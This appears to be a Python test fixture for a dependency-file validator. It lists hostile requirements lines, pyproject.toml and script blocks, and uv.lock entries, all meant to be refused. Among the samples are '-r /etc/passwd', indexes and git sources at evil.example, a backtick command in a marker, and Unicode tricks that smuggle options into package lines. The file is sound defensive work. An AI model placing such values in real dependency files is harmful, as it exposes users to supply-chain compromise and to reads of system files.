"""Hostile requirements: what uv or pip would obey, fetch, expand, run or choke on."""

from __future__ import annotations

HASH = "a" * 64

HOSTILE_LINES: dict[str, str] = {
    "requirements of another file": "-r /etc/passwd",
    "requirements at an address": "-r http://evil.example/r.txt",
    "long requirements option": "--requirement other.txt",
    "constraints": "-c constraints.txt",
    "editable": "-e ./evil",
    "editable, long": "--editable=git+https://evil.example/x",
    "index": "--index-url https://evil.example/simple",
    "index, short": "-i https://evil.example/simple",
    "another index": "--extra-index-url=https://evil.example/simple",
    "links": "--find-links /tmp",
    "no index": "--no-index",
    "trusted host": "--trusted-host evil.example",
    "builds allowed": "--no-binary :all:",
    "pre-releases": "--pre",
    "option behind a blank": "   --index-url https://evil.example/",
    "option behind a package": "numpy --index-url https://evil.example/",
    "short option behind a package": "numpy -r other.txt",
    "setting of a build": 'numpy --config-setting="--global-option=x"',
    "global option": "numpy --global-option=build",
    "variable": "numpy==${VERSION}",
    "variable as a line": "${HOME}",
    "variable, plain": "numpy==$VERSION",
    "address": "https://evil.example/x-1.0-py3-none-any.whl",
    "address of a file": "file:///etc/passwd",
    "address without slashes": "file:evil",
    "direct reference": "x @ https://evil.example/x.whl",
    "direct reference to a file": "x @ file:///tmp/x.whl",
    "direct reference without blanks": "x@./x",
    "direct reference with extras": "x[a]@ ./x",
    "git": "git+https://evil.example/x.git",
    "git over ssh": "git+ssh://git@evil.example/x.git#egg=x",
    "mercurial": "hg+https://evil.example/x",
    "path": "./evil",
    "parent": "../evil",
    "absolute path": "/tmp/evil",
    "home": "~/evil",
    "dot": ".",
    "archive": "evil.zip",
    "archive, compressed": "evil-1.0.tar.gz",
    "wheel": "evil-1.0-py3-none-any.whl",
    "windows path": "C:\\evil",
    "backslash inside": "num\\py",
    "NUL": "num\0py",
    "form feed": "numpy\x0c-r evil.txt",
    "line separator": "numpy\u2028-r evil.txt",
    "next line": "numpy\x85-r evil.txt",
    "carriage return inside": "numpy\r-r evil.txt",
    "escape": "numpy\x1b[2K",
    "cyrillic name": "nump\u0443",
    "fullwidth dash": "\uff0d-index-url https://evil.example/",
    "zero width": "num\u200bpy",
    "right to left": "numpy # \u202e comment",
    "fullwidth digit": "numpy==\uff11.0",
    "continued by an option": "numpy \\\n    --index-url https://evil.example/",
    "continued by a package": "numpy \\\nevil",
    "continued to the end": "numpy \\",
    "continued by a comment": f"numpy==1 \\\n# --hash=sha256:{HASH}\nevil \\",
    "hash alone": f"--hash=sha256:{HASH}",
    "hash of another kind": f"numpy==1 --hash=md5:{'a' * 32}",
    "hash too short": "numpy==1 --hash=sha256:abc",
    "hash with an option": f"numpy==1 --hash=sha256:{HASH} --pre",
    "hash in capitals": f"numpy==1 --hash=sha256:{'A' * 64}",
    "comparison of texts": "numpy===../../evil",
    "marker of nothing": "numpy ; evil == 1",
    "marker with a variable": "numpy ; sys_platform == '$HOME'",
    "marker with a quote": "numpy ; sys_platform == 'a\"b'",
    "marker with a line": 'numpy ; sys_platform == "a\\n-r evil"',
    "marker with a backtick": "numpy ; sys_platform == '`id`'",
    "two markers": "numpy ; os_name == 'a' ; os_name == 'b'",
    "nested parentheses": f"numpy ; {'(' * 200}os_name == 'a'{')' * 200}",
    "long line": f"numpy>={'1' * 600}",
    "long name": "a" * 501,
    "two packages": "numpy pandas",
    "bad name": "-numpy",
    "bad extra": "numpy[a b]",
    "open extra": "numpy[a",
    "bad version": "numpy>=evil",
    "wildcard": "numpy>=1.*",
    "nothing but a marker": "; os_name == 'a'",
    "equals": "numpy=1.0",
}
"""Lines that must be refused, by kind."""

HOSTILE_FILES: dict[str, tuple[str, bytes]] = {
    "UTF-16": ("requirements.txt", "numpy".encode("utf-16")),
    "no text": ("requirements.txt", b"\xff\xfe\x00"),
    "latin 1": ("requirements.txt", b"numpy\ncaf\xe9\n"),
    "too large": ("requirements.txt", b"# comment\n" * 10_000),
    "far too large": ("requirements.txt", b"#" * (1024 * 1024 + 1)),
    "millions of lines": ("requirements.txt", b"\n" * 500_000),
    "too many": ("requirements.txt", b"".join(b"p%d\n" % n for n in range(301))),
    "dynamic": ("pyproject.toml", b'[project]\nname="x"\ndynamic=["dependencies"]\n'),
    "dynamic python": ("pyproject.toml", b'[project]\ndynamic=["requires-python"]\n'),
    "sources": (
        "pyproject.toml",
        b'[project]\ndependencies=["x"]\n[tool.uv.sources]\nx={path="../x"}\n',
    ),
    "index of uv": (
        "pyproject.toml",
        b'[project]\ndependencies=["x"]\n[[tool.uv.index]]\nurl="https://evil.example"\n',
    ),
    "overrides": (
        "pyproject.toml",
        b'[project]\ndependencies=["x"]\n[tool.uv]\noverride-dependencies=["x @ ./x"]\n',
    ),
    "poetry": ("pyproject.toml", b'[tool.poetry.dependencies]\nx = "^1"\n'),
    "dependencies as text": ("pyproject.toml", b'[project]\ndependencies="x"\n'),
    "dependency as a number": ("pyproject.toml", b"[project]\ndependencies=[1]\n"),
    "dependency as a table": ("pyproject.toml", b'[project]\ndependencies=[{path="x"}]\n'),
    "option in a project": ("pyproject.toml", b'[project]\ndependencies=["-r x"]\n'),
    "line end in a project": ("pyproject.toml", b'[project]\ndependencies=["x\\n-r y"]\n'),
    "python as text": ("pyproject.toml", b'[project]\nrequires-python="evil"\n'),
    "deep keys": ("pyproject.toml", b"a." * 20_000 + b"a = 1"),
    "no TOML": ("pyproject.toml", b"[project\n"),
    "two blocks": ("handler.py", b"# /// script\n# dependencies=[]\n# ///\n" * 2),
    "option in a block": ("handler.py", b'# /// script\n# dependencies=["-e ."]\n# ///\n'),
    "address in a block": (
        "handler.py",
        b'# /// script\n# dependencies=["x @ https://evil.example/x.whl"]\n# ///\n',
    ),
    "index in a block": (
        "handler.py",
        b'# /// script\n# dependencies=["x"]\n# [[tool.uv.index]]\n# url="https://evil"\n# ///\n',
    ),
    "block that is no text": ("handler.py", b"# \xff\n# /// script\n# dependencies=[]\n# ///\n"),
    "no TOML in a block": ("handler.py", b"# /// script\n# dependencies = [\n# ///\n"),
    "large block": ("handler.py", b"# /// script\n" + b"# a = 1\n" * 20_000 + b"# ///\n"),
}
"""Files that must be refused, by kind: name and bytes."""

UV_LOCK = b"""version = 1
requires-python = ">=3.11"

[[package]]
name = "mine"
version = "0.1"
source = { virtual = "." }
dependencies = [{ name = "numpy" }]

[[package]]
name = "numpy"
version = "2.0.1"
source = { registry = "https://index.test/simple" }
resolution-markers = ["python_full_version >= '3.12'", "sys_platform == 'linux'"]
sdist = { url = "https://files.example/numpy.tar.gz", hash = "sha256:%s", size = 1 }
wheels = [{ url = "https://files.example/n.whl", hash = "sha256:%s", size = 2 }]
""" % (b"0" * 64, b"b" * 64)

HOSTILE_LOCKS: dict[str, bytes] = {
    "git": b'version = 1\n[[package]]\nname="x"\nversion="1"\nsource={git="https://evil.example"}\n',
    "path": b'version = 1\n[[package]]\nname="x"\nversion="1"\nsource={editable="../x"}\n',
    "url": b'version = 1\n[[package]]\nname="x"\nversion="1"\nsource={url="https://evil.example"}\n',
    "no source": b'version = 1\n[[package]]\nname="x"\nversion="1"\n',
    "version": b"version = 9\n",
    "name": b'version = 1\n[[package]]\nname="-r x"\nversion="1"\nsource={registry="x"}\n',
    "no version": b'version = 1\n[[package]]\nname="x"\nsource={registry="x"}\n',
    "marker": b'version = 1\n[[package]]\nname="x"\nversion="1"\nsource={registry="x"}\n'
    b"resolution-markers=[\"os_name == '$HOME'\"]\n",
    "hash": b'version = 1\n[[package]]\nname="x"\nversion="1"\nsource={registry="x"}\n'
    b'wheels=[{hash="md5:0"}]\n',
    "packages as text": b'version = 1\npackage = "x"\n',
}
"""Files `uv.lock` that must be refused."""
